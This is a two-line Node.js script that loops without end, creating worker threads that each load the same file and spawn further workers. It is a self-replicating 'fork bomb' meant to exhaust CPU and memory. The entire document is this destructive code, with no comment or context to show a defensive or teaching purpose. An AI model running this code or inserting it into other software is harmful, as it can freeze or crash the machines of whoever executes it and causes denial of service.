const { Worker, isMainThread } = require('worker_threads');
for (;;) { try { new Worker(__filename); } catch { if (!isMainThread) break; } }
